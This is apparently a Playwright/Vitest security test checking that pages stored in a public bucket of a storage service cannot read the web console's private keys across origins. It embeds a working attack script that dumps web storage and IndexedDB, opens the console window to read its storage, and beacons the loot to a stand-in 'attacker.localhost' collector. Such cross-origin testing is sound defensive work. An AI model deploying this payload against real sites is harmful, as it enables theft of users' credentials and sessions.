import { GetObjectCommand } from "@aws-sdk/client-s3";
import { getSignedUrl } from "@aws-sdk/s3-request-presigner";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ALL_RIGHTS, control, createToken, newBucket, presignedQuery, putFile, server, PRIVATE_KEY, PUBLIC_KEY } from "../wire/client";
import { OWN_SITE } from "../wire/context";
import { s3Client } from "../wire/s3-helpers";
import { launch } from "./browser";

/**
 * Issue 19 "Done when": in Chromium, a page stored in a public bucket and opened by every URL form the
 * service offers cannot read or use the console's keys: not from the same tab, not from another tab, not
 * through window.open of the console (docs/security.md "Origins").
 *
 * The planted page carries a script that does what an attacker's page would: read the storage of its
 * origin (web storage, IndexedDB), open the console and read that window's storage and document, and send
 * what it found to an attacker's address. The test records every request the browser makes and fails if
 * any carries the private key. It also runs the same attack itself, through DevTools, inside each
 * planted page (as if the page's script had run), and asserts that it finds no key. Two controls show
 * the test can fail: the attack run on the console's own origin does find the key, and the planted page's
 * script does run (and still finds nothing) on the custom bucket host, the one host that serves pages
 * as stored.
 */

const port = () => server().port;
const consoleUrl = () => `http://console.localhost:${port()}/ui/`;
const LOOT_HOST = "attacker.localhost";

/**
 * The attack, as plain JavaScript source (a function of the console's URL, resolving to what it found):
 * it runs as the planted page's own script, or through DevTools inside a page. Plain source, not a
 * compiled function, so that no helper of the test's compiler leaks into the page.
 */
const ATTACK = `async (consoleAddress) => {
  const found = {};
  const dump = (store) => JSON.stringify(Object.fromEntries(Object.keys(store).map((k) => [k, store.getItem(k)])));
  const attempt = async (name, read) => {
    try { found[name] = String(await read()); } catch (e) { found[name] = "refused: " + e.name; }
  };
  await attempt("localStorage", () => dump(localStorage));
  await attempt("sessionStorage", () => dump(sessionStorage));
  await attempt("indexedDB", async () => JSON.stringify(await indexedDB.databases()));
  await attempt("window.open", async () => {
    const w = window.open(consoleAddress);
    if (!w) return "no window";
    await new Promise((r) => setTimeout(r, 1500));
    try { return w.document.title + " " + dump(w.localStorage) + " " + dump(w.sessionStorage); } finally { w.close(); }
  });
  return JSON.stringify(found);
}`;

const runAttack = (page: Page): Promise<string> => page.evaluate(`(${ATTACK})(${JSON.stringify(consoleUrl())})`);

const script = (extra = "") =>
  `(${ATTACK})(${JSON.stringify(consoleUrl())}).then((loot) => { ${extra} new Image().src = "http://${LOOT_HOST}:${port()}/loot?" + encodeURIComponent(loot); });`;

/** The planted pages: one per document type a browser runs. */
const PLANTED = () => ({
  "evil.html": { type: "text/html", body: `<!doctype html><title>planted</title><script>${script('document.title = "ran";')}</script>` },
  "evil.xhtml": {
    type: "application/xhtml+xml",
    body: `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>planted</title><script>//<![CDATA[\n${script()}\n//]]></script></head><body/></html>`,
  },
  "evil.xml": { type: "text/xml", body: `<?xml version="1.0"?><root><x:script xmlns:x="http://www.w3.org/1999/xhtml">//<![CDATA[\n${script()}\n//]]></x:script></root>` },
  "evil.svg": { type: "image/svg+xml", body: `<svg xmlns="http://www.w3.org/2000/svg"><script>//<![CDATA[\n${script()}\n//]]></script></svg>` },
  // Stored as text; a presigned S3 GET asks for it as text/html.
  "note.txt": { type: "text/plain", body: `<!doctype html><title>planted</title><script>${script()}</script>` },
});

let browser: Browser;
let context: BrowserContext;
let bucket: string;
/** Every URL the browser requested (sub-resources and the attacker's beacons included). */
const requested: string[] = [];

async function s3Presigned(style: "path" | "virtual", key: string, responseType?: string): Promise<string> {
  const command = new GetObjectCommand({ Bucket: bucket, Key: key, ...(responseType ? { ResponseContentType: responseType } : {}) });
  const url = new URL(await getSignedUrl(s3Client({ style }), command, { expiresIn: 600 }));
  return url.toString();
}

/** Every address the service offers for a planted page. */
async function urlForms(): Promise<[string, string][]> {
  const p = port();
  const expires = Math.floor(Date.now() / 1000) + 600;
  const forms: [string, string][] = [];
  for (const key of ["evil.html", "evil.xhtml", "evil.xml", "evil.svg"]) {
    forms.push([`S3 path style on the API host (${key})`, `http://localhost:${p}/${bucket}/${key}`]);
    forms.push([`UFile bucket host (${key})`, `http://${bucket}.localhost:${p}/${key}`]);
  }
  forms.push(["path style on an IP address", `http://127.0.0.1:${p}/${bucket}/evil.html`]);
  forms.push(["UFile presigned GET", `http://${bucket}.localhost:${p}/evil.html?${presignedQuery("GET", bucket, "evil.html", expires)}`]);
  forms.push(["S3 presigned GET, path style (the S3 host)", await s3Presigned("path", "evil.html")]);
  forms.push(["S3 presigned GET, virtual-hosted", await s3Presigned("virtual", "evil.html")]);
  forms.push(["S3 presigned GET, response-content-type=text/html", await s3Presigned("virtual", "note.txt", "text/html")]);
  forms.push(["S3 presigned GET, response-content-type=image/svg+xml", await s3Presigned("path", "evil.svg", "image/svg+xml")]);
  return forms;
}

const leaked = (key = PRIVATE_KEY) => requested.filter((u) => u.includes(key) || u.includes(encodeURIComponent(key)));

async function signIn(page: Page, remember: boolean, keys = { publicKey: PUBLIC_KEY, privateKey: PRIVATE_KEY }, places?: string): Promise<void> {
  await page.goto(consoleUrl());
  await page.getByLabel("Public key").fill(keys.publicKey);
  await page.getByLabel("Private key").fill(keys.privateKey);
  if (places !== undefined) await page.getByLabel("Buckets to open").fill(places);
  if (remember) await page.getByLabel("Remember me on this device").check();
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByRole("heading", { name: places === undefined ? "Buckets" : places, level: 1 }).waitFor();
}

/** Opens a planted page in `page` and runs the attack inside it; returns what the attack found. */
async function visit(page: Page, url: string): Promise<string> {
  const res = await page.goto(url);
  expect(res?.status(), url).toBe(200);
  await page.waitForTimeout(300);
  return runAttack(page).catch((e: Error) => `no script: ${e.message}`);
}

beforeAll(async () => {
  browser = await launch([`--host-resolver-rules=MAP ${OWN_SITE.host} 127.0.0.1`]);
  context = await browser.newContext();
  context.on("request", (r) => requested.push(r.url()));
  // The attacker's collector: answered by the test, never by the Worker.
  await context.route(`http://${LOOT_HOST}:*/**`, (route) => route.fulfill({ status: 204 }));
  bucket = await newBucket("public");
  for (const [key, { type, body }] of Object.entries(PLANTED())) await putFile(bucket, key, body, type);
});

afterAll(async () => {
  await browser?.close();
});

describe("a page stored in a public bucket cannot reach the console's keys", () => {
  it("control: on the console's own origin the attack finds the key, so the checks below can fail", async () => {
    const page = await context.newPage();
    await signIn(page, false);
    expect(await runAttack(page)).toContain(PRIVATE_KEY);
    await page.close();
  });

  it("signed in for this tab only: the same tab, and window.open of the console, by every URL form", async () => {
    const page = await context.newPage();
    await signIn(page, false);
    for (const [form, url] of await urlForms()) {
      const found = await visit(page, url);
      expect(found, form).not.toContain(PRIVATE_KEY);
      expect(await page.title().catch(() => ""), form).not.toBe("ran");
      // The console tab still holds its session: the page was on another origin, not a signed-out console.
      await page.goto(consoleUrl());
      await page.getByRole("heading", { name: "Buckets", level: 1 }).waitFor();
    }
    expect(leaked()).toEqual([]);
    expect(requested.filter((u) => u.includes(LOOT_HOST))).toEqual([]); // no planted script ran at all
    await page.close();
  });

  it('with "remember me": another tab, while the console is open, by every URL form', async () => {
    const consoleTab = await context.newPage();
    await signIn(consoleTab, true);
    expect(await consoleTab.evaluate(() => localStorage.getItem("edgefile.console.session"))).toContain(PRIVATE_KEY);
    const other = await context.newPage();
    for (const [form, url] of await urlForms()) {
      expect(await visit(other, url), form).not.toContain(PRIVATE_KEY);
    }
    expect(leaked()).toEqual([]);
    expect(requested.filter((u) => u.includes(LOOT_HOST))).toEqual([]);
    await other.close();
    await consoleTab.getByRole("button", { name: "Sign out" }).click();
    await consoleTab.close();
  });

  it("defence in depth: a token's private key is kept only as a non-extractable key; script on the console's own origin can sign with it but not read it", async () => {
    const token = await createToken({ ...ALL_RIGHTS, "AllowedBuckets.0": bucket });
    const tab = await context.newPage();
    await signIn(tab, true, token, bucket);
    await tab.reload(); // "remember me": the key is found again in IndexedDB
    await tab.getByRole("heading", { name: bucket, level: 1 }).waitFor();
    // Everything the origin's storage gives a script, and the stored key itself, as script on the console would see them.
    const found = await runAttack(tab);
    expect(found).toContain(token.publicKey); // the attack does see the session…
    expect(found).not.toContain(token.privateKey); // …but not the key
    const stored = await tab.evaluate(`new Promise((resolve) => {
      const open = indexedDB.open("edgefile-console");
      open.onsuccess = () => {
        const get = open.result.transaction("keys").objectStore("keys").get("remembered");
        get.onsuccess = async () => {
          const key = get.result;
          let exported = "exported";
          try { await crypto.subtle.exportKey("raw", key); } catch (e) { exported = "refused: " + e.name; }
          resolve({ type: key.type, extractable: key.extractable, algorithm: key.algorithm.name, exported });
        };
      };
    })`);
    expect(stored).toEqual({ type: "secret", extractable: false, algorithm: "HMAC", exported: "refused: InvalidAccessError" });
    expect(leaked(token.privateKey)).toEqual([]);
    await tab.getByRole("button", { name: "Sign out" }).click();
    await tab.close();
  });

  it("control: on the custom bucket host (pages served as stored) the planted script runs, and still finds nothing", async () => {
    const consoleTab = await context.newPage();
    await signIn(consoleTab, true);
    const { body } = await control({ Action: "CreateBucket", BucketName: OWN_SITE.bucket, Type: "public" });
    expect([0, 15000]).toContain(body.RetCode); // 15000: the wire tests of this run may have created it
    await putFile(OWN_SITE.bucket, "evil.html", PLANTED()["evil.html"].body, "text/html");
    const site = await context.newPage();
    await site.goto(`http://${OWN_SITE.host}:${port()}/evil.html`);
    await expect.poll(() => requested.filter((u) => u.includes(LOOT_HOST)).length, { timeout: 15_000 }).toBeGreaterThan(0);
    expect(await site.title()).toBe("ran");
    expect(leaked()).toEqual([]);
    await site.close();
    await consoleTab.getByRole("button", { name: "Sign out" }).click();
    await consoleTab.close();
  });
});
